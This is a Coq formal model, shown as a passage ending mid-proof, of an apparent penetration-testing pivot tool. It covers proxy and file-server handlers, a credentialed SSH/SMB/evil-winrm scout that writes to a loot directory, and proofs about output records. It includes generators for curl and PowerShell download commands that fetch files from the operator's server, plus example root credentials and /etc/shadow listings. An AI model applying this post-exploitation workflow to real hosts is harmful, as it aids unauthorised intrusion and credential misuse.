Module ui.

(** The two package-level handles. Each handler body runs between
    [Lock] and the deferred [Unlock] of the mutex of its handle, so a
    handler is one atomic step on this state. *)
Record State : Type := mkState {
  proxyCmd : option Cmd;
  fileSrv : option Server
}.

Definition initial : State := mkState None None.

Record Request : Type := mkHTTP { Method : string; Body : string }.

(** The payloads the modelled handlers encode. *)
Inductive Payload : Type :=
| StrMap (kv : list (string * string))
| BoolMap (kv : list (string * bool))
| ScoutPayload (res : core.FSScoutResult).

Record Response : Type := mkResponse { Status : Z; Payload_ : Payload }.

Definition StatusOK : Z := 200.
Definition StatusBadRequest : Z := 400.
Definition StatusMethodNotAllowed : Z := 405.
Definition StatusConflict : Z := 409.
Definition StatusInternalServerError : Z := 500.

Definition respondJSON (status : Z) (payload : Payload) : Response :=
  mkResponse status payload.

Definition respondError (status : Z) (message : string) : Response :=
  respondJSON status (StrMap [("error", message)]).

(** The block every handler repeats after [core.LoadConfig]: the defaults
    when the file is missing, no configuration on any other error. *)
Definition loadConfigOrDefault : IO (option Config) :=
  '(cfg, err) <- core.LoadConfig ;;
  match err with
  | None => ret (Some cfg)
  | Some e => if isNotExist e then ret (Some core.DefaultConfig) else ret None
  end.

Definition handleStartProxy (r : Request) (st : State) : IO (Response * State) :=
  if negb (Method r =? "POST") then
    ret (respondError StatusMethodNotAllowed "method not allowed", st)
  else
    match proxyCmd st with
    | Some _ => ret (respondError StatusConflict "proxy already running", st)
    | None =>
        ocfg <- loadConfigOrDefault ;;
        match ocfg with
        | None => ret (respondError StatusInternalServerError "failed to load config", st)
        | Some cfg =>
            cfg <- core.SanitizeConfig cfg ;;
            '(cmd, err) <- core.StartProxy cfg ;;
            match err with
            | Some _ => ret (respondError StatusInternalServerError "failed to start proxy", st)
            | None =>
                ret (respondJSON StatusOK (StrMap [("status", "started")]),
                     mkState (Some cmd) (fileSrv st))
            end
        end
    end.

Definition handleStopProxy (r : Request) (st : State) : IO (Response * State) :=
  if negb (Method r =? "POST") then
    ret (respondError StatusMethodNotAllowed "method not allowed", st)
  else
    match proxyCmd st with
    | None => ret (respondJSON StatusOK (StrMap [("status", "not_running")]), st)
    | Some cmd =>
        (if Process cmd then emit (EvKill cmd) else ret tt) ;;
        emit (EvWaitAsync cmd) ;;
        ret (respondJSON StatusOK (StrMap [("status", "stopped")]),
             mkState None (fileSrv st))
    end.

Definition handleStatus (r : Request) (st : State) : IO (Response * State) :=
  if negb (Method r =? "GET") then
    ret (respondError StatusMethodNotAllowed "method not allowed", st)
  else
    let running := match proxyCmd st with Some _ => true | None => false end in
    ret (respondJSON StatusOK (BoolMap [("proxy_running", running)]), st).

Definition handleFileStart (r : Request) (st : State) : IO (Response * State) :=
  if negb (Method r =? "POST") then
    ret (respondError StatusMethodNotAllowed "method not allowed", st)
  else
    match fileSrv st with
    | Some _ => ret (respondError StatusConflict "file server already running", st)
    | None =>
        ocfg <- loadConfigOrDefault ;;
        match ocfg with
        | None => ret (respondError StatusInternalServerError "failed to load config", st)
        | Some cfg =>
            cfg <- core.SanitizeConfig cfg ;;
            if FileDirectory cfg =? "" then
              ret (respondError StatusBadRequest "invalid file directory", st)
            else
              '(isDir, statErr) <- os_Stat_ (FileDirectory cfg) ;;
              if negb (isNil statErr) || negb isDir then
                ret (respondError StatusBadRequest "invalid file directory", st)
              else
                let addr := FileBind cfg ++ ":" ++ itoa (FilePort cfg) in
                let srv := mkServer addr (FileDirectory cfg) 10 10 60 in
                err <- net_Listen_ addr ;;
                match err with
                | Some _ =>
                    ret (respondError StatusInternalServerError "failed to start file server", st)
                | None =>
                    emit (EvServeAsync srv) ;;
                    ret (respondJSON StatusOK (StrMap [("status", "started")]),
                         mkState (proxyCmd st) (Some srv))
                end
        end
    end.

Definition handleFileStop (r : Request) (st : State) : IO (Response * State) :=
  if negb (Method r =? "POST") then
    ret (respondError StatusMethodNotAllowed "method not allowed", st)
  else
    match fileSrv st with
    | None => ret (respondJSON StatusOK (StrMap [("status", "not_running")]), st)
    | Some srv =>
        err <- srv_Shutdown_ srv ;;
        match err with
        | Some e =>
            if negb (isServerClosed e)
            then emit (EvLog ("file server shutdown error: " ++ Error e))
            else ret tt
        | None => ret tt
        end ;;
        ret (respondJSON StatusOK (StrMap [("status", "stopped")]),
             mkState (proxyCmd st) None)
    end.

Definition handleFileStatus (r : Request) (st : State) : IO (Response * State) :=
  if negb (Method r =? "GET") then
    ret (respondError StatusMethodNotAllowed "method not allowed", st)
  else
    let running := match fileSrv st with Some _ => true | None => false end in
    ret (respondJSON StatusOK (BoolMap [("file_server_running", running)]), st).

Definition handleFSScout (r : Request) : IO Response :=
  if negb (Method r =? "POST") then
    ret (respondError StatusMethodNotAllowed "method not allowed")
  else
    '(req, derr) <- json_Decode_Request_ (Body r) ;;
    match derr with
    | Some e => ret (respondError StatusBadRequest (Error e))
    | None =>
        '(res, err) <- core.RunFSScout req ;;
        match err with
        | Some _ => ret (respondJSON StatusBadRequest (ScoutPayload res))
        | None => ret (respondJSON StatusOK (ScoutPayload res))
        end
    end.

(** [handleFileCommand]; [query] answers [r.URL.Query().Get]. *)
Definition handleFileCommand (r : Request) (query : string -> string) : IO Response :=
  if negb (Method r =? "GET") then
    ret (respondError StatusMethodNotAllowed "method not allowed")
  else
    let osParam := query "os" in
    if negb (osParam =? "linux") && negb (osParam =? "windows") then
      ret (respondError StatusBadRequest "invalid os")
    else
      let filename := strings.TrimSpace (query "filename") in
      if (filename =? "") || strings.Contains filename "/"
         || strings.Contains filename "\" || strings.Contains filename ".." then
        ret (respondError StatusBadRequest "invalid filename")
      else
        ocfg <- loadConfigOrDefault ;;
        match ocfg with
        | None => ret (respondError StatusInternalServerError "failed to load config")
        | Some cfg =>
            cfg <- core.SanitizeConfig cfg ;;
            let url := "http://" ++ PublicIP cfg ++ ":" ++ itoa (FilePort cfg)
                       ++ "/" ++ filename in
            let cmd :=
              if osParam =? "linux" then "curl -o " ++ filename ++ " " ++ url
              else "powershell -Command " ++ dq ++ "Invoke-WebRequest -Uri '" ++ url
                   ++ "' -OutFile '" ++ filename ++ "'" ++ dq in
            ret (respondJSON StatusOK (StrMap [("command", cmd)]))
        end.

(** The routes of [main] that read or write the two handles. *)
Inductive Endpoint : Type :=
| ApiStartProxy | ApiStopProxy | ApiStatus
| ApiFileStart | ApiFileStop | ApiFileStatus.

Definition serve (ep : Endpoint) : Request -> State -> IO (Response * State) :=
  match ep with
  | ApiStartProxy => handleStartProxy
  | ApiStopProxy => handleStopProxy
  | ApiStatus => handleStatus
  | ApiFileStart => handleFileStart
  | ApiFileStop => handleFileStop
  | ApiFileStatus => handleFileStatus
  end.

(** A history of the daemon: the requests served one after the other,
    each in the world it found. The result is the final state, the
    responses and the effects, in order. *)
Fixpoint run (calls : list (Endpoint * Request * World)) (st : State)
  : State * list Response * list Event :=
  match calls with
  | [] => (st, [], [])
  | (ep, r, w) :: rest =>
      let '(resp, st1, t1) := serve ep r st w in
      let '(st2, resps, t2) := run rest st1 in
      (st2, resp :: resps, (t1 ++ t2)%list)
  end.

(** Counting effects in a history. *)
Definition isStarted (e : Event) : bool :=
  match e with EvStart _ _ true => true | _ => false end.
Definition isKill (e : Event) : bool :=
  match e with EvKill _ => true | _ => false end.
Definition isListening (e : Event) : bool :=
  match e with EvListen _ true => true | _ => false end.
Definition isShutdown (e : Event) : bool :=
  match e with EvShutdown _ => true | _ => false end.

Definition count (p : Event -> bool) (t : list Event) : nat :=
  List.length (filter p t).

(** The number of handles a state holds of each kind. *)
Definition proxyHandles (st : State) : nat :=
  match proxyCmd st with Some _ => 1 | None => 0 end.
Definition fileHandles (st : State) : nat :=
  match fileSrv st with Some _ => 1 | None => 0 end.

End ui.

(** ** The vocabulary of the properties

    First the output contract as the design specification words it
    (records, tokens, the byte map of the host), to be compared with the
    functions embedded from the sources above; then the names the
    statements about the runner use. *)

Module Contract.

Definition fileRecord (value : string) : string := "FILE|" ++ value ++ nl.
Definition deniedRecord (value : string) : string := "DENIED|" ++ value ++ nl.

Definition nonBlank (line : string) : bool := negb (line =? "").

Definition deniedSSH (line : string) : bool := strings.Contains line "Permission denied".

(** SSH: one [FILE|] record per non-blank trimmed stdout line, then one
    [DENIED|] record per stderr line with the permission-denied marker. *)
Definition sshRecords (stdout stderr : string) : list string :=
  (map fileRecord (filter nonBlank (map strings.TrimSpace (strings.Split stdout LF)))
   ++ map (fun line => deniedRecord (strings.TrimSpace line))
          (filter deniedSSH (strings.Split stderr LF)))%list.

(** The bytes of [s] before its first white-space rune. *)
Fixpoint takeToken (s : string) : string :=
  match s with
  | "" => ""
  | String c r =>
      match strings.spaceWidth s with
      | O => String c (takeToken r)
      | S _ => ""
      end
  end.

(** The first white-space-delimited token of a line. *)
Definition firstToken (line : string) : string :=
  takeToken (strings.TrimLeftSpace line).

(** SMB: the record a raw line yields, if any. *)
Definition smbRecord (line : string) : option string :=
  let l := strings.TrimSpace line in
  if l =? "" then None
  else if strings.Contains l "NT_STATUS_ACCESS_DENIED" then Some (deniedRecord l)
  else
    let name := firstToken l in
    if (name =? ".") || (name =? "..") then None
    else Some (fileRecord name).

Definition optList {A : Type} (o : option A) : list A :=
  match o with Some a => [a] | None => [] end.

Definition smbRecords (raw : string) : list string :=
  flat_map (fun line => optList (smbRecord line)) (strings.Split raw LF).

(** [sanitizeHost] byte by byte. *)
Definition sanitizeByte (c : ascii) : ascii :=
  if Ascii.eqb c ":"%char || Ascii.eqb c "/"%char then "_"%char else c.

Fixpoint mapBytes (f : ascii -> ascii) (s : string) : string :=
  match s with
  | "" => ""
  | String c r => String (f c) (mapBytes f r)
  end.

(** The artifact is produced by appending records, each with its line
    feed, to an empty buffer. *)
Definition render (records : list string) : string := String.concat "" records.

(** Events that spawn an external process, and events that write a file. *)
Definition isSpawn (e : Event) : bool :=
  match e with EvRun _ _ | EvStart _ _ _ => true | _ => false end.
Definition isWrite (e : Event) : bool :=
  match e with EvWriteFile _ _ => true | _ => false end.
Definition isMkdir (e : Event) : bool :=
  match e with EvMkdirAll _ => true | _ => false end.

(** A request that fails the checks at the head of [RunFSScout]. *)
Definition missingField (req : FSScoutRequest) : bool :=
  (Host req =? "") || (Username req =? "") || (Password req =? "") || (StartDir req =? "").

(** The request after the defaults of [RunFSScout] are applied. *)
Definition defaulted (req : FSScoutRequest) : FSScoutRequest :=
  let req := if (Depth req <=? 0)%Z then core.withDepth req 3 else req in
  if Mode req =? "" then core.withMode req core.FSModeFast else req.

(** The host directory and the artifact path of an attempt. *)
Definition fsBaseOf (lootDir : string) (req : FSScoutRequest) : string :=
  filepath.Join [lootDir; "fs"; core.sanitizeHost (Host req)].

Definition outPathOf (lootDir ts : string) (req : FSScoutRequest) : string :=
  filepath.Join [fsBaseOf lootDir req;
                 ts ++ "_" ++ Protocol req ++ "_" ++ Mode (defaulted req) ++ ".txt"].

Definition withPassword (req : FSScoutRequest) (pw : string) : FSScoutRequest :=
  mkRequest (Protocol req) (Host req) (Port req) (Username req) pw
            (SMBShare req) (StartDir req) (Depth req) (Mode req).

(** The three backends that run an external command. *)
Inductive Backend : Type := SSH | SMB | WinRM.

Definition runBackend (b : Backend) : FSScoutRequest -> string -> IO error :=
  match b with
  | SSH => core.runFSScoutSSH
  | SMB => core.runFSScoutSMB
  | WinRM => core.runFSScoutEvilWinRM
  end.

Definition backendName (b : Backend) : string :=
  match b with SSH => "ssh" | SMB => "smbclient" | WinRM => "evil-winrm" end.

Definition backendArgs (b : Backend) (req : FSScoutRequest) : list string :=
  match b with
  | SSH => core.sshArgs req
  | SMB => core.smbArgs req
  | WinRM => core.winrmArgs req
  end.

Definition backendArtifact (b : Backend) (p : ProcResult) : string :=
  match b with
  | SSH => core.sshArtifact (captured isStdout (written p)) (captured isStderr (written p))
  | SMB => core.smbArtifact (captured (fun _ => true) (written p))
  | WinRM => core.genericArtifact (captured (fun _ => true) (written p))
  end.

Definition backendFailure (b : Backend) (e : GoError) : GoError :=
  fmt_Errorf_w (backendName b ++ " command failed: ") e.

(** The share check of the SMB backend passes. *)
Definition shareGiven (b : Backend) (req : FSScoutRequest) : bool :=
  match b with SMB => negb (SMBShare req =? "") | _ => true end.

(** A computation that never performs an effect of the kind [P]. *)
Definition silent (P : Event -> bool) {A : Type} (m : IO A) : Prop :=
  forall w, existsb P (snd (m w)) = false.

(** [post m w Q]: in the world [w], the value and the effects of [m]
    satisfy [Q]. *)
Definition post {A : Type} (m : IO A) (w : World) (Q : A -> list Event -> Prop) : Prop :=
  Q (fst (m w)) (snd (m w)).

(** The claim C3 as the specification words it: every request with a
    missing mandatory field, the SMB share included, is rejected with no
    effect on the world at all. *)
Definition invalidRequest (req : FSScoutRequest) : Prop :=
  Host req = "" \/ Username req = "" \/ Password req = "" \/ StartDir req = ""
  \/ (Protocol req = core.FSProtocolSMB /\ SMBShare req = "").

Definition rejectedBeforeIO (req : FSScoutRequest) (w : World) : Prop :=
  exists e, core.RunFSScout req w = (core.zeroResult, Some e, []).

Definition ftpMessage : string :=
  "FTP auto-scout not implemented yet; use generate-only / manual mode".

(** A path element as [Clean] keeps it: not empty, not ".", free of
    separators. *)
Definition keptElem (e : string) : Prop :=
  e <> "" /\ e <> "." /\ strings.Split e filepath.Separator = [e].

(** The output of [Clean], last element first: real elements above a
    run of ".." that only an unrooted path can have. *)
Inductive cleanOut (rooted : bool) : list string -> Prop :=
| cleanOut_nil : cleanOut rooted []
| cleanOut_real e out :
    keptElem e -> e <> ".." -> cleanOut rooted out -> cleanOut rooted (e :: out)
| cleanOut_dotdot out :
    rooted = false -> Forall (fun x => x = "..") out -> cleanOut rooted (".." :: out).

(** The string [Clean] renders from its output. *)
Definition rendered (rooted : bool) (out : list string) : string :=
  if rooted then "/" ++ strings.Join (List.rev out) "/"
  else match out with
       | [] => "."
       | _ => strings.Join (List.rev out) "/"
       end.

(** *** Further vocabulary: lines, bytes and defaults *)

(** Whether the byte [c] occurs in [s]. *)
Fixpoint hasByte (c : ascii) (s : string) : bool :=
  match s with
  | "" => false
  | String x r => Ascii.eqb x c || hasByte c r
  end.

(** A line that carries one of the two record prefixes. *)
Definition hasRecordPrefix (l : string) : bool :=
  strings.HasPrefix l "FILE|" || strings.HasPrefix l "DENIED|".

(** Evil-WinRM: the trimmed lines that already are records, each as a
    line. *)
Definition genericLines (raw : string) : list string :=
  filter hasRecordPrefix (map strings.TrimSpace (strings.Split raw LF)).

Definition asLine (l : string) : string := l ++ nl.

(** A line of an artifact: a record prefix and no line feed inside. *)
Definition recordLine (l : string) : bool :=
  hasRecordPrefix l && negb (hasByte LF l).

(** The lines of the artifact of each backend. *)
Definition sshLines (stdout stderr : string) : list string :=
  (map (fun l => String.append "FILE|" l)
       (filter nonBlank (map strings.TrimSpace (strings.Split stdout LF)))
   ++ map (fun line => String.append "DENIED|" (strings.TrimSpace line))
          (filter deniedSSH (strings.Split stderr LF)))%list.

Definition smbLineOf (line : string) : option string :=
  let l := strings.TrimSpace line in
  if l =? "" then None
  else if strings.Contains l "NT_STATUS_ACCESS_DENIED" then Some ("DENIED|" ++ l)
  else
    let name := firstToken l in
    if (name =? ".") || (name =? "..") then None
    else Some ("FILE|" ++ name).

Definition smbLines (raw : string) : list string :=
  flat_map (fun line => optList (smbLineOf line)) (strings.Split raw LF).

Definition backendLines (b : Backend) (p : ProcResult) : list string :=
  match b with
  | SSH => sshLines (captured isStdout (written p)) (captured isStderr (written p))
  | SMB => smbLines (captured (fun _ => true) (written p))
  | WinRM => genericLines (captured (fun _ => true) (written p))
  end.

(** The values [RunFSScout] and the backends put in place of a zero
    depth, mode or port. *)
Definition depthOrDefault (req : FSScoutRequest) : Z :=
  if (Depth req <=? 0)%Z then 3%Z else Depth req.
Definition modeOrDefault (req : FSScoutRequest) : string :=
  if Mode req =? "" then "fast" else Mode req.
Definition portOr (req : FSScoutRequest) (dflt : Z) : Z :=
  if (Port req =? 0)%Z then dflt else Port req.

(** One of the four protocols the [switch] of [RunFSScout] names. *)
Definition knownProtocol (p : string) : bool :=
  (p =? "ssh") || (p =? "smb") || (p =? "ftp") || (p =? "evil-winrm").

(** A port a listener can be bound to. *)
Definition validPort (p : Z) : Prop := (1 <= p <= 65535)%Z.

(** A configuration as [SanitizeConfig] leaves it. *)
Definition sanitized (c : Config) : Prop :=
  validPort (ProxyPort c) /\ validPort (FilePort c)
  /\ ProxyBind c <> "" /\ ProxyBinary c <> "" /\ AgentBinary c <> ""
  /\ FileBind c <> "".

(** A file name the download-command endpoint accepts. *)
Definition safeFilename (f : string) : bool :=
  negb (f =? "") && negb (hasByte "/"%char f) && negb (hasByte "\"%char f)
  && negb (strings.Contains f "..").

(** The protocol name that selects each backend. *)
Definition protocolOf (b : Backend) : string :=
  match b with SSH => "ssh" | SMB => "smb" | WinRM => "evil-winrm" end.

(** Every file written in [t] was reported missing by [os.Stat]. *)
Definition freshWrites (w : World) (t : list Event) : Prop :=
  forall path data, In (EvWriteFile path data) t -> snd (os_Stat w path) <> None.

Definition fresh (w : World) {A : Type} (m : IO A) : Prop :=
  freshWrites w (snd (m w)).

(** [yields m w R]: in the world [w], the value of [m] satisfies [R]. *)
Definition yields {A : Type} (m : IO A) (w : World) (R : A -> Prop) : Prop :=
  R (fst (m w)).

(** The command [handleFileCommand] hands out for a file of the file
    server. *)
Definition downloadURL (ip : string) (port : Z) (filename : string) : string :=
  "http://" ++ ip ++ ":" ++ itoa port ++ "/" ++ filename.

Definition downloadCommand (osName ip : string) (port : Z) (filename : string) : string :=
  if osName =? "linux" then "curl -o " ++ filename ++ " " ++ downloadURL ip port filename
  else "powershell -Command " ++ dq ++ "Invoke-WebRequest -Uri '"
       ++ downloadURL ip port filename ++ "' -OutFile '" ++ filename ++ "'" ++ dq.

(** What [CheckLigoloInstalled] reports, in the world [w]. *)
Definition ligoloReport (w : World) (r : core.LigoloStatus * error) : Prop :=
  match snd r with
  | Some _ => fst r = core.zeroLigolo
  | None =>
      core.ProxyPath (fst r) <> "" /\ core.AgentName (fst r) <> ""
      /\ core.Reason (fst r) <> "proxy binary path not set"
      /\ (core.Installed (fst r) = true <-> core.Reason (fst r) = "")
      /\ (core.Installed (fst r) = true ->
          snd (os_Stat w (core.ProxyPath (fst r))) = None
          /\ snd (os_Stat w (filepath.Join [core.InstallDir (fst r);
                                            core.AgentName (fst r)])) = None)
  end.

End Contract.

(** ** The account of handles and effects *)

Module Lifecycle.

Import ui.

(** The effects that create or release a handle. *)
Definition handleEvent (e : Event) : bool :=
  isStarted e || isKill e || isListening e || isShutdown e.

(** A handle of the proxy kind always carries a started process. *)
Definition wellFormed (st : State) : Prop :=
  forall c, proxyCmd st = Some c -> Process c = true.

(** What one request does to the handles: every handle created is
    accounted for by one successful start (or listen), every handle
    released by one kill (or shutdown). *)
Definition balanced (st st' : State) (t : list Event) : Prop :=
  count isStarted t + proxyHandles st = count isKill t + proxyHandles st'
  /\ count isListening t + fileHandles st = count isShutdown t + fileHandles st'.

Definition stepInv (st : State) (out : Response * State) (t : list Event) : Prop :=
  (wellFormed st -> wellFormed (snd out) /\ balanced st (snd out) t)
  /\ (Status (fst out) = StatusOK \/ snd out = st).

(** A successful start found no handle and left one. *)
Definition proxyStarted (st : State) (out : Response * State) : Prop :=
  Status (fst out) = StatusOK ->
  proxyCmd st = None /\ exists c, snd out = mkState (Some c) (fileSrv st).

Definition fileStarted (st : State) (out : Response * State) : Prop :=
  Status (fst out) = StatusOK ->
  fileSrv st = None /\ exists s, snd out = mkState (proxyCmd st) (Some s).

Definition isLog (e : Event) : bool :=
  match e with EvLog _ => true | _ => false end.

(** The method each endpoint serves. *)
Definition methodOf (ep : Endpoint) : string :=
  match ep with
  | ApiStartProxy | ApiStopProxy | ApiFileStart | ApiFileStop => "POST"
  | ApiStatus | ApiFileStatus => "GET"
  end.

End Lifecycle.

(** ** Concrete requests and worlds used in the examples below *)

Module Examples.

Definition exitFailure : GoError := errors_New "exit status 255".
Definition diskFull : GoError := errors_New "no space left on device".
Definition addrInUse : GoError := errors_New "address already in use".

Definition sshOutput : list (Stream * string) :=
  [(Stdout, "/etc/passwd" ++ nl ++ "/etc/shadow" ++ nl ++ nl);
   (Stderr, "find: '/root': Permission denied" ++ nl)].

(** A host whose home is /home/op, where every path exists and is a
    directory, there is no configuration file, the clock reads [ts], and
    the remaining answers are the parameters. *)
Definition ts : string := "2024-01-01_00-00-00".

Definition world (run : ProcResult) (write start listen : error) : World :=
  mkWorld ("/home/op", None)
          (fun _ => (true, None))
          (fun _ => None)
          (fun _ => ("", Some os_ErrNotExist))
          (fun _ _ => write)
          (fun _ => (core.DefaultConfig, None))
          (fun _ => (mkRequest "" "" 0 "" "" "" "" 0 "", Some (errors_New "EOF")))
          (fun _ => ts)
          (fun _ _ => run)
          (fun _ _ => start)
          (fun _ => listen)
          (fun _ => None).

Definition calm : World := world (mkProc sshOutput None) None None None.

Definition sshReq : FSScoutRequest :=
  mkRequest "ssh" "10.0.0.5" 0 "root" "hunter2" "" "/etc" 0 "".
Definition smbNoShare : FSScoutRequest :=
  mkRequest "smb" "10.0.0.5" 0 "guest" "guest" "" "/" 0 "".
Definition ftpReq : FSScoutRequest :=
  mkRequest "ftp" "10.0.0.5" 0 "anonymous" "guest" "" "/pub" 0 "".
Definition dotdotReq : FSScoutRequest :=
  mkRequest "ssh" ".." 0 "root" "hunter2" "" "/etc" 0 "".

Definition lootDir : string := "/home/op/.local/share/PivotOnTheGO/loot".

(** The world [w], with a request body that decodes to [req]. *)
Definition withBody (w : World) (req : FSScoutRequest) : World :=
  mkWorld (os_UserHomeDir w) (os_Stat w) (os_MkdirAll w) (os_ReadFile w)
          (os_WriteFile w) (json_Unmarshal_Config w) (fun _ => (req, None))
          (time_Now_Format w) (exec_Run w) (exec_Start w) (net_Listen w)
          (srv_Shutdown w).

(** The world [w], with a configuration file that holds [cfg]. *)
Definition withConfig (w : World) (cfg : Config) : World :=
  mkWorld (os_UserHomeDir w) (os_Stat w) (os_MkdirAll w) (fun _ => ("{}", None))
          (os_WriteFile w) (fun _ => (cfg, None)) (json_Decode_Request w)
          (time_Now_Format w) (exec_Run w) (exec_Start w) (net_Listen w)
          (srv_Shutdown w).

(** The [ssh] command fails; the [ssh] command succeeds and the write
    fails. *)
Definition commandFails : World :=
  world (mkProc sshOutput (Some exitFailure)) None None None.
Definition writeFails : World :=
  world (mkProc sshOutput None) (Some diskFull) None None.

Definition postRequest : ui.Request := ui.mkHTTP "POST" "".
Definition getRequest : ui.Request := ui.mkHTTP "GET" "".

End Examples.

(** * Properties *)

(** ** Strings *)

Lemma append_nil_r (s : string) : s ++ "" = s.
Proof. induction s as [|c s IH]; simpl; congruence. Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a as [|x a IH]; simpl; congruence. Qed.

Lemma append_eq_nil (a b : string) : a ++ b = "" -> a = "" /\ b = "".
Proof. destruct a; simpl; [auto | discriminate]. Qed.

Lemma concat_nil_app (xs ys : list string) :
  String.concat "" (xs ++ ys) = String.concat "" xs ++ String.concat "" ys.
Proof.
  induction xs as [|x xs IH]; [reflexivity|].
  destruct xs as [|x' xs].
  - simpl. destruct ys; simpl; [now rewrite append_nil_r | reflexivity].
  - change (String.concat "" ((x :: x' :: xs) ++ ys))
      with (x ++ "" ++ String.concat "" ((x' :: xs) ++ ys)).
    rewrite IH. simpl. now rewrite append_assoc.
Qed.

Lemma concat_nil_cons (x : string) (xs : list string) :
  String.concat "" (x :: xs) = x ++ String.concat "" xs.
Proof. apply (concat_nil_app [x] xs). Qed.

Example TrimSpace_ex1 : strings.TrimSpace ("  a b" ++ nl) = "a b".
Proof. reflexivity. Qed.

Example Fields_ex1 :
  strings.Fields "  secret.txt    A    0 " = ["secret.txt"; "A"; "0"].
Proof. reflexivity. Qed.

Example Split_ex1 :
  strings.Split ("/etc/passwd" ++ nl ++ "/etc/shadow" ++ nl ++ nl) LF
  = ["/etc/passwd"; "/etc/shadow"; ""; ""].
Proof. reflexivity. Qed.

Example itoa_ex : itoa 22 = "22" /\ itoa 0 = "0" /\ itoa (-7) = "-7".
Proof. repeat split. Qed.

(** A no-break space (U+00A0) and an ideographic space (U+3000) are
    trimmed like the ASCII ones; a stray continuation byte is not. *)
Example TrimSpace_unicode :
  strings.TrimSpace (String "194" (String "160" ("host " ++ String "227" (String "128" (String "128" "")))))
  = "host"
  /\ strings.TrimSpace (String "160" " x ") = String "160" " x".
Proof. split; reflexivity. Qed.

Example Clean_ex1 : filepath.Clean "/a/../../b/./c//d/.." = "/b/c".
Proof. reflexivity. Qed.

Example Clean_ex2 : filepath.Clean "../../a/../.." = "../../..".
Proof. reflexivity. Qed.

(** ** SSH normalisation *)

Section SSHNormalisation.

Import Contract.

Lemma fold_sshStdoutLine (lines : list string) (buf : string) :
  fold_left core.sshStdoutLine lines buf
  = buf ++ render (map fileRecord (filter nonBlank (map strings.TrimSpace lines))).
Proof.
  revert buf; induction lines as [|l lines IH]; intros buf; simpl.
  - now rewrite append_nil_r.
  - rewrite IH. unfold core.sshStdoutLine, nonBlank.
    destruct (strings.TrimSpace l =? "") eqn:E; simpl; [reflexivity|].
    unfold render. rewrite concat_nil_cons, append_assoc. reflexivity.
Qed.

Lemma fold_sshStderrLine (lines : list string) (buf : string) :
  fold_left core.sshStderrLine lines buf
  = buf ++ render (map (fun line => deniedRecord (strings.TrimSpace line))
                       (filter deniedSSH lines)).
Proof.
  revert buf; induction lines as [|l lines IH]; intros buf; simpl.
  - now rewrite append_nil_r.
  - rewrite IH. unfold core.sshStderrLine, deniedSSH.
    destruct (strings.Contains l "Permission denied") eqn:E; simpl; [|reflexivity].
    unfold render. rewrite concat_nil_cons, append_assoc. reflexivity.
Qed.

Lemma sshArtifact_records (stdout stderr : string) :
  core.sshArtifact stdout stderr = render (sshRecords stdout stderr).
Proof.
  unfold core.sshArtifact, sshRecords, render.
  rewrite fold_sshStderrLine, fold_sshStdoutLine, concat_nil_app.
  reflexivity.
Qed.

(** C6. [writeFSScoutOutputSSH] writes, in one [os.WriteFile] of the
    output path, exactly the records of the contract: a [FILE|] record for
    every stdout line that is non-blank once trimmed, in stdout order, then
    a [DENIED|] record with the trimmed line for every stderr line that
    contains "Permission denied", and nothing for any other stderr line.
    On the specification's example (stdout with two paths and a blank
    line, one permission-denied stderr line among others) the artifact is
    two [FILE|] lines followed by one [DENIED|] line. *)
Theorem C6_ssh_normalisation :
  (forall outPath stdout stderr w,
      core.writeFSScoutOutputSSH outPath stdout stderr w
      = (os_WriteFile w outPath (render (sshRecords stdout stderr)),
         [EvWriteFile outPath (render (sshRecords stdout stderr))]))
  /\ core.sshArtifact
       ("/etc/passwd" ++ nl ++ "/etc/shadow" ++ nl ++ nl)
       ("Warning: added host key" ++ nl
        ++ "find: '/root': Permission denied " ++ nl ++ "debug: exit" ++ nl)
     = "FILE|/etc/passwd" ++ nl ++ "FILE|/etc/shadow" ++ nl
       ++ "DENIED|find: '/root': Permission denied" ++ nl.
Proof.
  split.
  - intros. unfold core.writeFSScoutOutputSSH, os_WriteFile_.
    now rewrite sshArtifact_records.
  - reflexivity.
Qed.

End SSHNormalisation.

(** ** White space, trimming and fields *)

Section WhiteSpace.

Import strings.

Lemma revOnto_app (s acc : string) : revOnto s acc = rev s ++ acc.
Proof.
  unfold rev. revert acc; induction s as [|c s IH]; intros acc; simpl.
  - reflexivity.
  - rewrite IH, (IH (String c "")), append_assoc. reflexivity.
Qed.

Lemma strings_rev_cons (c : ascii) (s : string) : rev (String c s) = rev s ++ String c "".
Proof. unfold rev at 1. simpl. apply revOnto_app. Qed.

Lemma strings_rev_app (a b : string) : rev (a ++ b) = rev b ++ rev a.
Proof.
  induction a as [|c a IH]; simpl.
  - now rewrite append_nil_r.
  - now rewrite !strings_rev_cons, IH, append_assoc.
Qed.

Lemma strings_rev_involutive (s : string) : rev (rev s) = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  now rewrite strings_rev_cons, strings_rev_app, IH.
Qed.

(** Dropping white space leaves a suffix. *)
Lemma dropSpaces_suffix (width : string -> nat) (s : string) :
  forall skip, exists p, s = p ++ dropSpaces width skip s.
Proof.
  induction s as [|c s IH]; intros skip; simpl.
  - now exists "".
  - destruct skip as [|k].
    + destruct (width (String c s)) as [|k].
      * now exists "".
      * destruct (IH k) as [p Hp]. exists (String c p). simpl. congruence.
    + destruct (IH k) as [p Hp]. exists (String c p). simpl. congruence.
Qed.

(** What is left starts with no white space. *)
Lemma dropSpaces_stops (width : string -> nat) (s : string) :
  forall skip,
    dropSpaces width skip s = "" \/ width (dropSpaces width skip s) = 0.
Proof.
  induction s as [|c s IH]; intros skip; simpl.
  - now left.
  - destruct skip as [|k]; [|apply IH].
    destruct (width (String c s)) as [|k] eqn:E; [now right | apply IH].
Qed.

(** A white-space rune at the start of a string is one at the start of
    every extension of it. *)
Lemma spaceWidth_extend (p t : string) :
  spaceWidth p <> 0 -> spaceWidth (p ++ t) = spaceWidth p.
Proof.
  destruct p as [|a [|b [|c p]]]; simpl; intros H;
    try congruence;
    destruct (asciiSpace a); try congruence;
    try (destruct (space2 a b); try congruence).
Qed.

Lemma TrimRightSpace_prefix (s : string) : exists t, s = TrimRightSpace s ++ t.
Proof.
  unfold TrimRightSpace.
  destruct (dropSpaces_suffix spaceWidthRev (rev s) 0) as [p Hp].
  exists (rev p).
  rewrite <- strings_rev_app, <- Hp. symmetry; apply strings_rev_involutive.
Qed.

(** A trimmed string is empty or starts with a byte that begins no
    white-space rune. *)
Lemma TrimSpace_head (s : string) :
  TrimSpace s = "" \/ spaceWidth (TrimSpace s) = 0.
Proof.
  unfold TrimSpace, TrimLeftSpace.
  destruct (dropSpaces_stops spaceWidth s 0) as [E|E].
